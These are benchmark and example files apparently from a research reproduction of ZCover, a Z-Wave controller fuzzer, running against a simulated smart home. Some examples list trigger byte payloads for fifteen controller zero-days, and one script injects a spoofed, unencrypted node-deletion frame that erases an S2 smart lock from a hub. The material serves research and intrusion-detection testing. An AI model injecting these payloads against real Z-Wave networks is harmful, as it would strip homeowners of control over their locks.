    suts = benchmark.pedantic(build_all, rounds=1, iterations=1)
    assert [s.profile.home_id for s in suts] == [
        PROFILES[d].home_id for d in CONTROLLER_IDS
    ]
