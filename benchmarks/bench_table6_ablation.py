"""Table VI — the ablation study: full vs beta vs gamma, one hour on D1.

The paper's shape: full functionality finds all 15; beta (known CMDCLs
only) misses exactly the seven CMDCL-0x01 bugs and lands on 8; gamma
(random mutation) is least effective at ~6.
"""

from repro.analysis.report import render_table6
from repro.core.campaign import Mode

from conftest import BENCH_SEED, GAMMA_SEED, cached_campaign, once, prefetch

ABLATION_HOURS = 1.0


def bench_table6_ablation(benchmark):
    def run_all():
        prefetch(
            [
                ("zcover", "D1", Mode.FULL, ABLATION_HOURS, BENCH_SEED),
                ("zcover", "D1", Mode.BETA, ABLATION_HOURS, BENCH_SEED),
                ("zcover", "D1", Mode.GAMMA, ABLATION_HOURS, GAMMA_SEED),
            ]
        )
        return {
            Mode.FULL: cached_campaign("D1", Mode.FULL, ABLATION_HOURS, BENCH_SEED),
            Mode.BETA: cached_campaign("D1", Mode.BETA, ABLATION_HOURS, BENCH_SEED),
            Mode.GAMMA: cached_campaign("D1", Mode.GAMMA, ABLATION_HOURS, GAMMA_SEED),
        }

    results = once(benchmark, run_all)
    print("\n" + render_table6(results))

    full, beta, gamma = (
        results[Mode.FULL], results[Mode.BETA], results[Mode.GAMMA]
    )
    assert full.unique_vulnerabilities == 15
    assert beta.unique_vulnerabilities == 8
    assert set(beta.matched_bug_ids) == {6, 7, 8, 9, 10, 11, 13, 15}
    assert 4 <= gamma.unique_vulnerabilities <= 8
    assert (
        full.unique_vulnerabilities
        > beta.unique_vulnerabilities
        > gamma.unique_vulnerabilities
    )


def bench_beta_misses_exactly_the_0x01_bugs(benchmark):
    beta = once(
        benchmark, lambda: cached_campaign("D1", Mode.BETA, ABLATION_HOURS, BENCH_SEED)
    )
    missed = set(range(1, 16)) - set(beta.matched_bug_ids)
    print(f"\n[measured] beta missed bugs: {sorted(missed)} (all on CMDCL 0x01)")
    assert missed == {1, 2, 3, 4, 5, 12, 14}
