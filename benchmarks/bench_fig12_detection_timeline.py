"""Figure 12 — vulnerability detection over time on D1/D3/D4/D5.

Regenerates the packets-vs-time curves with discovery marks for the four
plotted controllers and checks the paper's two observations: roughly 800
test packets go out in the first 600 seconds, and most unique zero-days
land inside that initial fuzzing phase.
"""

from repro.analysis.report import render_figure12
from repro.core.campaign import Mode

from conftest import BENCH_HOURS, BENCH_SEED, BENCH_STRICT, cached_campaign, once

PLOTTED_DEVICES = ("D1", "D3", "D4", "D5")


def _campaigns():
    return {
        device: cached_campaign(device, Mode.FULL, BENCH_HOURS, BENCH_SEED)
        for device in PLOTTED_DEVICES
    }


def bench_fig12_timelines(benchmark):
    results = once(benchmark, _campaigns)
    for device, result in results.items():
        print("\n" + render_figure12(result, horizon=800.0))
        marks = [t for t, _, _ in result.discovery_timeline()]
        early = [t for t in marks if t <= 700.0]
        print(
            f"[measured] {device}: {len(early)}/{len(marks)} unique "
            f"discoveries within the initial phase"
        )
        # "Most of the 15 unique zero-day vulnerabilities" land early.
        if BENCH_STRICT:
            assert len(early) >= 10, device
            assert len(marks) == 15, device
        else:
            assert len(marks) >= 1, device


def bench_fig12_packet_rate(benchmark):
    result = once(
        benchmark, lambda: cached_campaign("D1", Mode.FULL, BENCH_HOURS, BENCH_SEED)
    )
    at_600 = max(
        (p.packets for p in result.fuzz.timeline if p.timestamp <= 600.0),
        default=0,
    )
    print(f"\n[measured] D1: {at_600} packets in the first 600 s (paper: ~800)")
    if BENCH_STRICT:
        assert 650 <= at_600 <= 850
    else:
        assert at_600 > 0
