"""Figure 5 — commands-per-command-class distribution.

Regenerates the bar chart series (23, 15, 11, 10, 8, 7, 6, 6, 5, 4, 3, 2,
2, 1, 1, 0) from the specification registry — the prioritisation signal of
Section III-C1.
"""

from repro.analysis.report import figure5_series, render_figure5
from repro.zwave.registry import load_full_registry

PAPER_SERIES = [23, 15, 11, 10, 8, 7, 6, 6, 5, 4, 3, 2, 2, 1, 1, 0]


def bench_fig5_series(benchmark):
    registry = load_full_registry()
    series = benchmark(lambda: figure5_series(registry))
    print("\n" + render_figure5(registry))
    assert [count for _, count in series] == PAPER_SERIES


def bench_fig5_registry_load(benchmark):
    registry = benchmark(load_full_registry)
    assert len(registry) == 124


def bench_fig5_prioritization(benchmark):
    registry = load_full_registry()
    candidates = tuple(registry.controller_relevant_ids(include_proprietary=True))

    queue = benchmark(lambda: registry.prioritize(candidates))
    assert queue[0] == 0x34  # 23 commands
    assert queue[1] == 0x01  # 20 commands — the proprietary class
    assert len(queue) == 45
