"""Scheduler comparison — static vs coverage-guided energy assignment.

The adaptive-scheduler claim of ISSUE 6: with the coverage feedback loop
closed, the ``Mode.FULL`` campaign on D1 finds every planted zero-day the
static priority queue finds, in strictly fewer total fuzz frames.  This
bench regenerates the four-arm Table VI (``--scheduler coverage`` adds
the fourth row) and prints the frames-to-first-bug comparison.

Campaigns run through :func:`run_campaign` directly rather than
``cached_campaign`` — the shared session cache is keyed on
``(device, mode, hours, seed)`` and has no scheduler dimension.
"""

from repro.analysis.report import render_table6
from repro.core.campaign import COVERAGE_ARM, HOUR, Mode, run_ablation, run_campaign

from conftest import BENCH_HOURS, BENCH_SEED, BENCH_STRICT, once

_scheduler_cache = {}


def _scheduled_campaign(scheduler):
    key = ("D1", Mode.FULL, BENCH_HOURS, BENCH_SEED, scheduler)
    if key not in _scheduler_cache:
        _scheduler_cache[key] = run_campaign(
            device="D1",
            mode=Mode.FULL,
            duration=BENCH_HOURS * HOUR,
            seed=BENCH_SEED,
            scheduler=scheduler,
        )
    return _scheduler_cache[key]


def bench_scheduler_frames_to_find(benchmark):
    """Coverage arm vs static arm, head to head on D1."""

    def run_both():
        return (
            _scheduled_campaign("static"),
            _scheduled_campaign("coverage"),
        )

    static, coverage = once(benchmark, run_both)
    static_bugs = static.matched_bug_ids
    static_cost = static.packets_to_find(static_bugs)
    coverage_cost = coverage.packets_to_find(static_bugs)
    print(
        f"\n[measured] static: {len(static_bugs)} bugs in {static_cost} frames "
        f"(first at {static.first_zero_day_packet}); "
        f"coverage: {coverage.unique_vulnerabilities} bugs, static set in "
        f"{coverage_cost} frames (first at {coverage.first_zero_day_packet})"
    )
    assert static.scheduler == "static" and coverage.scheduler == "coverage"
    assert coverage.scheduler_trace, "coverage arm recorded no decisions"
    if BENCH_STRICT:
        # Dominance needs the discovery curves flattened (the coverage
        # arm's probe sweep alone outlasts a smoke horizon).
        assert static_bugs, "static arm found nothing to compare against"
        assert set(static_bugs) <= set(coverage.matched_bug_ids)
        assert coverage_cost is not None and coverage_cost < static_cost
        assert static.unique_vulnerabilities == 15
        assert coverage.unique_vulnerabilities == 15


def bench_scheduler_table6_fourth_arm(benchmark):
    """The four-arm ablation table with the coverage scheduler row."""

    def run_all():
        return run_ablation(
            device="D1",
            duration=BENCH_HOURS * HOUR,
            seed=BENCH_SEED,
            scheduler="coverage",
        )

    results = once(benchmark, run_all)
    print("\n" + render_table6(results))
    assert COVERAGE_ARM in results
    coverage = results[COVERAGE_ARM]
    full = results[Mode.FULL]
    assert coverage.scheduler == "coverage"
    assert full.scheduler == "static"
    assert coverage.scheduler_trace, "coverage arm recorded no decisions"
    if BENCH_STRICT:
        assert full.unique_vulnerabilities == 15
        assert coverage.unique_vulnerabilities == 15
        assert full.unique_vulnerabilities > results[Mode.BETA].unique_vulnerabilities


def bench_scheduler_energy_concentrates(benchmark):
    """The energy trajectory: exploit windows concentrate on the classes
    that keep yielding coverage, instead of the flat static rotation."""
    coverage = once(benchmark, lambda: _scheduled_campaign("coverage"))
    counters = coverage.metrics.counters
    energy = {
        name.rsplit(".", 1)[1]: value
        for name, value in counters.items()
        if name.startswith("scheduler.energy.")
    }
    total = sum(energy.values())
    top = sorted(energy.items(), key=lambda item: (-item[1], item[0]))[:5]
    print(
        f"\n[measured] {counters.get('scheduler.coverage_novel_frames', 0)} "
        f"coverage-novel frames; energy top-5: "
        + ", ".join(f"0x{name}={value}" for name, value in top)
    )
    assert total > 0
    if BENCH_STRICT:
        # The top five of the 45 queued classes absorb well over their
        # uniform ~11% share — the defining difference from the flat
        # static rotation.
        assert sum(value for _, value in top) > total * 0.25
        assert counters["scheduler.coverage_novel_frames"] > 0
