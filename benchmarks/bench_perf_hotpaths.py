"""Hot-path throughput via the ``repro.perf`` harness.

Runs the same seeded workloads ``zcover perf`` times — frame codec
round-trips, mutation batch generation, controller dispatch, the
end-to-end campaign frames/sec figure, and the result-wire round-trip —
under the benchmark timer, and checks the determinism contract: each
workload's checksum is identical on every repetition.
"""

from repro.perf import (
    WORKLOADS,
    report_to_document,
    run_bench,
    validate_document,
)

from conftest import once


def _run_fast():
    return run_bench(names=None, fast=True, repeats=1)


def bench_perf_fast_suite(benchmark):
    """One fast-mode pass over every registered workload."""
    report = once(benchmark, _run_fast)
    names = {t.name for t in report.timings}
    assert names == set(WORKLOADS) | {"calibration"}
    for timing in report.timings:
        assert timing.ops > 0 and timing.best_ns > 0


def bench_perf_document_roundtrip(benchmark):
    """Document assembly + validation on a real fast-mode report."""
    report = _run_fast()

    def build():
        doc = report_to_document(report, meta={"kind": "bench-smoke"})
        validate_document(doc)
        return doc

    doc = once(benchmark, build)
    assert doc["schema"] == "zcover-perf-bench"
    assert len(doc["results"]) == len(report.timings)
