"""Table III — the fifteen zero-day discoveries.

Runs the full ZCover campaign against the ZooZ controller (D1) and checks
that every Table III entry is rediscovered with the paper's (CMDCL, CMD)
coordinates and outage durations; then spot-checks the Samsung hub (D6),
which exposes the thirteen non-PC-program bugs.
"""

from repro.analysis.report import render_table3
from repro.core.campaign import Mode
from repro.simulator.vulnerabilities import ZERO_DAYS, zero_day_by_id

from conftest import (
    BENCH_HOURS,
    BENCH_SEED,
    BENCH_STRICT,
    cached_campaign,
    once,
    prefetch,
)


def bench_table3_full_campaign_d1(benchmark):
    # Both Table III campaigns (D1 + D6) shard across workers up front.
    prefetch(
        [
            ("zcover", "D1", Mode.FULL, BENCH_HOURS, BENCH_SEED),
            ("zcover", "D6", Mode.FULL, BENCH_HOURS, BENCH_SEED),
        ]
    )
    result = once(
        benchmark, lambda: cached_campaign("D1", Mode.FULL, BENCH_HOURS, BENCH_SEED)
    )
    measured = {}
    for unique in result.unique.values():
        if unique.bug_id is not None:
            measured[unique.bug_id] = (
                unique.finding.duration_label,
                unique.first_detection_time,
                unique.first_detection_packet,
            )
    print("\n" + render_table3(measured))
    print(
        f"\n[measured] device=D1 trial={BENCH_HOURS:.0f}h: "
        f"{result.unique_vulnerabilities}/15 unique zero-days rediscovered"
    )
    if not BENCH_STRICT:
        assert set(result.matched_bug_ids) <= set(range(1, 16))
        assert result.unique_vulnerabilities >= 1
        return
    assert result.matched_bug_ids == tuple(range(1, 16))

    # Hang durations must land on the paper's values (±2 s measurement grid).
    for bug_id in (7, 8, 9, 10, 11, 14, 15):
        canonical = zero_day_by_id(bug_id).duration_s
        duration = next(
            u.finding.duration_s
            for u in result.unique.values()
            if u.bug_id == bug_id
        )
        assert abs(duration - canonical) <= 2.0, (bug_id, duration, canonical)


def bench_table3_hub_campaign_d6(benchmark):
    result = once(
        benchmark, lambda: cached_campaign("D6", Mode.FULL, BENCH_HOURS, BENCH_SEED)
    )
    found = set(result.matched_bug_ids)
    print(f"\n[measured] device=D6: bugs {sorted(found)}")
    # The smartphone-app hub exposes everything except the PC-program bugs.
    if BENCH_STRICT:
        assert found == set(range(1, 16)) - {6, 13}
    else:
        assert found <= set(range(1, 16)) - {6, 13}


def bench_table3_cve_inventory(benchmark):
    def census():
        return {
            "bugs": len(ZERO_DAYS),
            "cves": sum(1 for b in ZERO_DAYS if b.cve),
            "spec_flaws": sum(1 for b in ZERO_DAYS if b.root_cause.value == "Specification"),
        }

    counts = benchmark(census)
    assert counts == {"bugs": 15, "cves": 12, "spec_flaws": 13}
