"""Repeated-trial statistics (the paper's five-trials-per-controller rule).

"Following recommended fuzzing practices, we conducted five 24-hour
fuzzing trials for each controller."  This bench runs the repeated trials
(five seeds at the benchmark horizon) and checks the stability properties
an evaluation would report: every trial finds the full fifteen, and the
early CMDCL-0x01 discoveries have tight timing spreads.
"""

from repro.core.campaign import Mode
from repro.core.trials import run_trials

from conftest import BENCH_HOURS, BENCH_SEED, BENCH_STRICT, BENCH_WORKERS, once


def bench_five_trials_d1(benchmark):
    summary = once(
        benchmark,
        lambda: run_trials(
            "D1", Mode.FULL, n_trials=5, duration=BENCH_HOURS * 3600.0,
            base_seed=BENCH_SEED, workers=BENCH_WORKERS,
        ),
    )
    print("\n" + summary.render())
    assert summary.n_trials == 5
    assert summary.failures == []
    if not BENCH_STRICT:
        assert all(count >= 1 for count in summary.unique_counts)
        return
    # Every trial rediscovers the complete Table III set.
    assert summary.unique_counts == (15, 15, 15, 15, 15)
    assert summary.intersection_bug_ids == tuple(range(1, 16))
    # The proprietary-class bugs land early and consistently.
    stats = {s.bug_id: s for s in summary.timing_stats()}
    assert stats[5].hits == 5
    assert stats[5].mean_time < 300.0
    assert stats[12].mean_time < 300.0
