"""Table IV — fingerprinting and unknown-property discovery per controller.

Runs phase 1 + phase 2 against all seven controllers and regenerates the
home ID / node ID / known / unknown columns.
"""

from repro.analysis.report import render_table4
from repro.core.discovery import discover_unknown_properties
from repro.core.fingerprint import fingerprint
from repro.simulator.testbed import CONTROLLER_IDS, PROFILES, build_sut

from conftest import BENCH_SEED

EXPECTED = {
    "D1": (17, 28), "D2": (17, 28), "D3": (15, 30), "D4": (17, 28),
    "D5": (15, 30), "D6": (17, 28), "D7": (15, 30),
}


def _fingerprint_all():
    results = {}
    for device in CONTROLLER_IDS:
        sut = build_sut(device, seed=BENCH_SEED)
        props = fingerprint(sut.dongle, sut.clock)
        props = discover_unknown_properties(sut.dongle, sut.clock, props)
        results[device] = props
    return results


def bench_table4_all_controllers(benchmark):
    results = benchmark.pedantic(_fingerprint_all, rounds=1, iterations=1)
    print("\n" + render_table4(results))
    for device, props in results.items():
        assert props.home_id == PROFILES[device].home_id
        assert props.controller_node_id == 0x01
        assert (props.known_count, props.unknown_count) == EXPECTED[device]
        assert len(props.all_cmdcls) == 45


def bench_passive_scan_single(benchmark):
    def scan():
        sut = build_sut("D1", seed=BENCH_SEED)
        from repro.core.fingerprint import PassiveScanner

        return PassiveScanner(sut.dongle, sut.clock).scan(120.0)

    result = benchmark(scan)
    assert result.home_id == PROFILES["D1"].home_id


def bench_validation_sweep_single(benchmark):
    def sweep():
        sut = build_sut("D4", seed=BENCH_SEED)
        props = fingerprint(sut.dongle, sut.clock)
        return discover_unknown_properties(sut.dongle, sut.clock, props)

    props = benchmark.pedantic(sweep, rounds=1, iterations=1)
    assert props.proprietary == (0x01, 0x02)
