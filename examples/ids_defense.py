#!/usr/bin/env python3
"""Attack remediation: a ZMAD-style IDS watching the Z-Wave network.

Section V-B of the paper proposes a lightweight intrusion detection system
for legacy devices that cannot receive firmware fixes.  This example:

1. trains the IDS on two simulated hours of benign smart-home traffic
   (controller polls, lock and switch status reports);
2. replays a day of benign traffic — the IDS stays silent;
3. replays all fifteen Table III attack payloads — every one raises an
   alert before it reaches the controller unchallenged.

Usage::

    python examples/ids_defense.py
"""

from repro.analysis import ZWaveIDS
from repro.simulator import build_sut
from repro.simulator.vulnerabilities import ZERO_DAYS
from repro.zwave import ZWaveFrame

#: Minimal trigger payloads for the fifteen Table III bugs.
ATTACK_PAYLOADS = {
    1: bytes([0x01, 0x0D, 0x02, 0x01]),
    2: bytes([0x01, 0x0D, 0xC8, 0x02]),
    3: bytes([0x01, 0x0D, 0x02, 0x03]),
    4: bytes([0x01, 0x0D, 0x01, 0x04]),
    5: bytes([0x01, 0x02]),
    6: bytes([0x9F, 0x01]),
    7: bytes([0x5A, 0x01]),
    8: bytes([0x59, 0x03, 0x00, 0x01]),
    9: bytes([0x7A, 0x01]),
    10: bytes([0x86, 0x13, 0x00]),
    11: bytes([0x59, 0x05, 0x00, 0x01]),
    12: bytes([0x01, 0x0D, 0x02, 0x00]),
    13: bytes([0x73, 0x04, 0x01, 0x05]),
    14: bytes([0x01, 0x04, 0xFF]),
    15: bytes([0x7A, 0x03, 0x00, 0x01]),
}


def sniff(sut, duration):
    """Collect (timestamp, frame) pairs from the attacker's dongle."""
    sut.dongle.clear_captures()
    sut.clock.advance(duration)
    return [
        (c.timestamp, c.frame)
        for c in sut.dongle.drain_captures()
        if c.frame is not None
    ]


def main() -> None:
    print("=== ZMAD-style IDS defending the simulated smart home ===\n")
    sut = build_sut("D1", seed=0)
    ids = ZWaveIDS(sut.profile.home_id)

    print("[1] training on 2 simulated hours of benign traffic...")
    training = sniff(sut, 7200.0)
    model = ids.train(training)
    print(f"    frames observed : {len(training)}")
    print(f"    known senders   : {sorted(model.known_senders)}")
    print(f"    known CMDCLs    : {[hex(c) for c in sorted(model.known_cmdcls)]}")
    print(f"    peak frame rate : {model.max_rate_per_minute:.0f}/min\n")

    print("[2] replaying 6 further hours of benign traffic...")
    false_positives = 0
    for timestamp, frame in sniff(sut, 21600.0):
        false_positives += len(ids.inspect(timestamp, frame))
    print(f"    false alarms: {false_positives}\n")

    print("[3] replaying the fifteen Table III attack payloads...")
    detected = 0
    for bug in ZERO_DAYS:
        payload = ATTACK_PAYLOADS[bug.bug_id]
        frame = ZWaveFrame(
            home_id=sut.profile.home_id, src=0x0F, dst=1, payload=payload
        )
        alerts = ids.inspect(sut.clock.now, frame)
        status = ", ".join(sorted({a.kind.value for a in alerts})) or "MISSED"
        if alerts:
            detected += 1
        print(f"    bug #{bug.bug_id:02d} (CMDCL 0x{bug.cmdcl:02X}): {status}")

    print(f"\ndetected {detected}/15 attacks; benign false alarms: {false_positives}")
    if detected == 15 and false_positives == 0:
        print("the lightweight IDS catches every Table III attack without")
        print("flagging normal traffic — the paper's proposed remediation")
        print("for legacy devices that cannot be patched.")


if __name__ == "__main__":
    main()
