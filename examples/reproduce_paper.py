#!/usr/bin/env python3
"""One-command reproduction of the paper's entire evaluation section.

Runs every experiment end-to-end — Tables II-VI plus Figures 5 and 12 —
and prints the paper-shaped artifacts.  The trial horizon is configurable;
the default (2 simulated hours) is past the point where every discovery
curve has flattened.

Usage::

    python examples/reproduce_paper.py [hours]
"""

import sys

from repro.analysis import (
    render_figure5,
    render_table2,
    render_table3,
    render_table4,
    render_table5,
    render_table6,
)
from repro.analysis.plot import figure5_svg, figure12_svg, save_svg
from repro.core import HOUR, Mode, VFuzzBaseline, run_campaign
from repro.core.discovery import discover_unknown_properties
from repro.core.fingerprint import fingerprint
from repro.simulator import CONTROLLER_IDS, build_sut
from repro.zwave import load_full_registry

SEED = 0


def main() -> None:
    hours = float(sys.argv[1]) if len(sys.argv) > 1 else 2.0
    print(f"Reproducing the ZCover evaluation ({hours:g} simulated hours "
          f"per trial)\n")

    print(render_table2() + "\n")

    print("Fingerprinting the seven controllers (Table IV)...")
    table4 = {}
    for device in CONTROLLER_IDS:
        sut = build_sut(device, seed=SEED)
        props = fingerprint(sut.dongle, sut.clock)
        table4[device] = discover_unknown_properties(sut.dongle, sut.clock, props)
    print(render_table4(table4) + "\n")

    print(render_figure5(load_full_registry()) + "\n")

    print(f"Running the full campaign on D1 ({hours:g} h, Table III)...")
    d1 = run_campaign("D1", Mode.FULL, duration=hours * HOUR, seed=SEED)
    measured = {
        u.bug_id: (u.finding.duration_label, u.first_detection_time, u.first_detection_packet)
        for u in d1.unique.values()
        if u.bug_id is not None
    }
    print(render_table3(measured) + "\n")

    print(f"Comparing against VFuzz on D1-D5 ({hours:g} h each, Table V)...")
    vfuzz, zcover = {}, {"D1": d1}
    for device in ("D1", "D2", "D3", "D4", "D5"):
        sut = build_sut(device, seed=SEED)
        vfuzz[device] = VFuzzBaseline(sut, seed=SEED).run(hours * HOUR)
        if device != "D1":
            zcover[device] = run_campaign(
                device, Mode.FULL, duration=hours * HOUR, seed=SEED
            )
    print(render_table5(vfuzz, zcover) + "\n")

    print("Running the ablation (1 h each, Table VI)...")
    ablation = {
        Mode.FULL: run_campaign("D1", Mode.FULL, duration=HOUR, seed=SEED),
        Mode.BETA: run_campaign("D1", Mode.BETA, duration=HOUR, seed=SEED),
        Mode.GAMMA: run_campaign("D1", Mode.GAMMA, duration=HOUR, seed=1),
    }
    print(render_table6(ablation) + "\n")

    fig5_path = save_svg(figure5_svg(load_full_registry()), "figure5.svg")
    fig12_path = save_svg(figure12_svg(d1), "figure12_d1.svg")
    print(f"figures written: {fig5_path}, {fig12_path}")
    print("\nDone. Compare against EXPERIMENTS.md for the paper-vs-measured "
          "record.")


if __name__ == "__main__":
    main()
