#!/usr/bin/env python3
"""Quickstart: fingerprint, discover and fuzz one Z-Wave controller.

Walks the three ZCover phases against the simulated ZooZ ZST10 (device D1
of the paper's Table II) and prints what each phase produced.  Runs in a
few seconds of wall time; the fuzzing itself covers 20 simulated minutes.

Usage::

    python examples/quickstart.py
"""

from repro.core import (
    HOUR,
    Mode,
    discover_unknown_properties,
    fingerprint,
    run_campaign,
)
from repro.simulator import build_sut


def main() -> None:
    print("=== ZCover quickstart against the simulated ZooZ ZST10 (D1) ===\n")

    # Phase 1 — known properties fingerprinting (passive + active scan).
    sut = build_sut("D1", seed=0)
    props = fingerprint(sut.dongle, sut.clock)
    print("[phase 1] passive + active scanning")
    print(f"  home id            : {props.home_id:08X}")
    print(f"  controller node id : 0x{props.controller_node_id:02X}")
    print(f"  observed nodes     : {sorted(props.observed_node_ids)}")
    print(f"  NIF-listed CMDCLs  : {props.known_count}")

    # Phase 2 — unknown properties discovery (spec clustering + validation).
    props = discover_unknown_properties(sut.dongle, sut.clock, props)
    print("\n[phase 2] unknown CMDCL discovery")
    print(f"  spec-inferred unlisted : {len(props.validated_unknown)}")
    print(f"  proprietary (validated): {[hex(c) for c in props.proprietary]}")
    print(f"  fuzzing candidate set  : {len(props.all_cmdcls)} CMDCLs")

    # Phase 3 — position-sensitive fuzzing (20 simulated minutes).
    print("\n[phase 3] position-sensitive fuzzing (20 simulated minutes)")
    result = run_campaign("D1", Mode.FULL, duration=HOUR / 3, seed=0)
    print(f"  test packets sent      : {result.fuzz.packets_sent}")
    print(f"  CMDCL / CMD coverage   : {result.fuzz.cmdcl_coverage} / {result.fuzz.cmd_coverage}")
    print(f"  unique vulnerabilities : {result.unique_vulnerabilities}")
    print("\n  discoveries (time-ordered):")
    for t, packet, bug_id in result.discovery_timeline():
        unique = next(
            u for u in result.unique.values()
            if u.first_detection_time == t and u.first_detection_packet == packet
        )
        bug = unique.bug
        label = f"bug #{bug_id:02d}" if bug_id else "unmatched finding"
        cve = f" ({bug.cve})" if bug and bug.cve else ""
        desc = bug.description if bug else unique.finding.kind.value
        print(f"    t={t:7.1f}s  pkt={packet:5d}  {label}{cve}: {desc}")

    print("\nRun the full 24-hour trial with: zcover fuzz --device D1 --hours 24")


if __name__ == "__main__":
    main()
