#!/usr/bin/env python3
"""Table IV survey: fingerprint all seven controllers of the testbed.

Runs ZCover's phase 1 (passive + active scanning) and phase 2 (spec
clustering + systematic validation testing) against every Table II
controller and prints the resulting Table IV.

Usage::

    python examples/fingerprint_survey.py
"""

from repro.analysis import render_table4
from repro.core import discover_unknown_properties, fingerprint
from repro.simulator import CONTROLLER_IDS, PROFILES, build_sut


def main() -> None:
    print("=== Fingerprinting the seven Table II controllers ===\n")
    results = {}
    for device in CONTROLLER_IDS:
        profile = PROFILES[device]
        sut = build_sut(device, seed=0)
        props = fingerprint(sut.dongle, sut.clock)
        props = discover_unknown_properties(sut.dongle, sut.clock, props)
        results[device] = props
        print(
            f"{device} ({profile.brand:8s} {profile.model:20s}): "
            f"home {props.home_id:08X}, "
            f"{props.known_count} listed + {props.unknown_count} hidden "
            f"= {len(props.all_cmdcls)} fuzzable CMDCLs"
        )

    print("\n" + render_table4(results))

    d1 = results["D1"]
    print("\nHidden classes uncovered on D1:")
    print(f"  spec-inferred unlisted: {[hex(c) for c in d1.validated_unknown]}")
    print(f"  proprietary (absent from the public spec): "
          f"{[hex(c) for c in d1.proprietary]}")
    print("\nCMDCL 0x01 — the proprietary network-management class — hosts")
    print("seven of the fifteen Table III zero-days.")


if __name__ == "__main__":
    main()
