#!/usr/bin/env python3
"""Table VI ablation: what each ZCover core feature contributes.

Runs one simulated hour of fuzzing against the ZooZ controller under the
paper's three configurations and prints the resulting Table VI:

* full          — known + unknown CMDCLs + position-sensitive mutation;
* beta          — known (NIF-listed) CMDCLs only;
* gamma         — random CMDCL/CMD/PARAM selection.

Usage::

    python examples/ablation_study.py
"""

from repro.analysis import render_table6
from repro.core import HOUR, Mode, run_campaign


def main() -> None:
    print("=== Table VI ablation: one simulated hour on the ZooZ (D1) ===\n")
    results = {}
    for mode, seed in ((Mode.FULL, 0), (Mode.BETA, 0), (Mode.GAMMA, 1)):
        result = run_campaign("D1", mode, duration=HOUR, seed=seed)
        results[mode] = result
        print(
            f"{mode.value:50s}: {result.unique_vulnerabilities:2d} unique "
            f"(bugs {list(result.matched_bug_ids)})"
        )

    print("\n" + render_table6(results))

    beta_missed = set(range(1, 16)) - set(results[Mode.BETA].matched_bug_ids)
    print(
        f"\nbeta missed bugs {sorted(beta_missed)} — exactly the seven "
        "vulnerabilities hiding in the unlisted proprietary CMDCL 0x01,"
    )
    print("which only unknown-property discovery can reach.")
    print(
        "gamma wastes most packets on the 211 unimplemented classes and "
        "never assembles the multi-byte trigger payloads."
    )


if __name__ == "__main__":
    main()
