#!/usr/bin/env python3
"""The Figure 2 attack scenario: deleting an S2 smart lock from 70 metres.

Re-enacts the paper's end-to-end threat narrative step by step:

1. the homeowner's network runs normally (S2 lock, legacy switch, hub);
2. an attacker parks ~70 m away with a YardStick-class dongle and passively
   scans all Z-Wave traffic — S2 encrypts only the application payload, so
   the home ID and node IDs are readable;
3. the attacker crafts an *unencrypted* proprietary CMDCL 0x01 payload that
   erases the lock from the controller's memory (bug #01/#03 family);
4. the homeowner's app can no longer control the lock — the controller no
   longer knows it exists — while the attack never broke any cryptography.

Usage::

    python examples/smart_home_attack.py
"""

from repro.core.fingerprint import PassiveScanner
from repro.simulator import LOCK_NODE_ID, build_sut
from repro.zwave import ZWaveFrame


def homeowner_locks_door(sut) -> bool:
    """The app asks the hub to operate the lock; report whether it can."""
    record = sut.controller.nvm.get(LOCK_NODE_ID)
    if record is None:
        return False  # the hub no longer knows the lock exists
    frame = ZWaveFrame(
        home_id=sut.profile.home_id,
        src=sut.controller.node_id,
        dst=LOCK_NODE_ID,
        payload=bytes([0x62, 0x01, 0xFF]),
    )
    sut.medium.transmit(sut.profile.idx, frame.encode(), 100.0)
    sut.clock.advance(0.2)
    return sut.lock.locked


def main() -> None:
    print("=== Figure 2: memory-tampering attack on an S2 smart home ===\n")
    sut = build_sut("D6", seed=42, attacker_distance_m=70.0)
    print(f"target       : {sut.profile.brand} {sut.profile.model} hub")
    print(f"smart lock   : node #{LOCK_NODE_ID}, paired with S2 "
          f"(granted keys 0x{sut.controller.nvm.get(LOCK_NODE_ID).granted_keys:02X})")
    print(f"attacker     : dongle at {sut.dongle.position[0]:.0f} m\n")

    print("[1] homeowner locks the door through the app...")
    assert homeowner_locks_door(sut)
    print("    -> lock responds, door secured\n")

    print("[2] attacker passively scans the network (120 s)...")
    scan = PassiveScanner(sut.dongle, sut.clock).scan(duration=120.0)
    print(f"    -> sniffed {scan.frames_seen} frames; {scan.network_summary}")
    print("    -> note: S2 hid the payloads but not the addresses\n")

    print("[3] attacker injects the unencrypted CMDCL 0x01 erase payload...")
    attack = ZWaveFrame(
        home_id=scan.home_id,
        src=0x0F,  # spoofed, unused node id
        dst=scan.controller_node_id,
        payload=bytes([0x01, 0x0D, LOCK_NODE_ID, 0x03]),  # NVM delete (bug #03)
    )
    # At 70 m the link is marginal, so the attacker retransmits until the
    # controller acknowledges — exactly what a real injection tool does.
    for attempt in range(1, 21):
        sut.dongle.inject(attack)
        sut.clock.advance(0.5)
        if LOCK_NODE_ID not in sut.controller.nvm:
            print(f"    -> landed on attempt {attempt} (lossy 70 m link)")
            break
    remaining = sut.controller.nvm.node_ids()
    print(f"    -> controller node table now: {list(remaining)}")
    assert LOCK_NODE_ID not in remaining
    print("    -> the S2 smart lock vanished from the hub's memory\n")

    print("[4] homeowner tries to lock the door again...")
    if not homeowner_locks_door(sut):
        print("    -> COMMAND FAIL: the hub no longer recognises the lock")
        print("    -> the homeowner cannot control the door (CVE-2024-50931)\n")

    print("No encryption was broken: the proprietary network-management")
    print("class accepted unauthenticated plaintext — the specification")
    print("flaw behind bugs #01-#04 of the paper's Table III.")


if __name__ == "__main__":
    main()
