#!/usr/bin/env python3
"""Extending the attack range through the Z-Wave mesh.

The paper's attacker works from 10-70 m.  This example shows why the
radius is really bounded by the *mesh*, not by the attacker's radio: from
120 m — beyond the controller's sensitivity floor — the Table III erase
payload still lands by bouncing off a mains-powered repeater node in the
garden, using an ordinary routed singlecast.

Usage::

    python examples/mesh_attack.py
"""

from repro.radio.medium import received_power_dbm
from repro.simulator import LOCK_NODE_ID, build_sut
from repro.simulator.routing import MeshRepeater, make_routed_frame
from repro.zwave import ZWaveFrame


def main() -> None:
    print("=== Routing the attack through the mesh ===\n")
    sut = build_sut("D1", seed=4, traffic=False, attacker_distance_m=120.0)
    repeater = MeshRepeater(
        "garden-repeater", sut.profile.home_id, 9, sut.clock, sut.medium,
        position=(60.0, 0.0),
    )
    print(f"attacker at 120 m: direct link budget "
          f"{received_power_dbm(120.0):.1f} dBm (floor is -95 dBm)")
    print(f"repeater at  60 m: per-leg budget "
          f"{received_power_dbm(60.0):.1f} dBm\n")

    print("[1] direct injection from 120 m...")
    direct = ZWaveFrame(
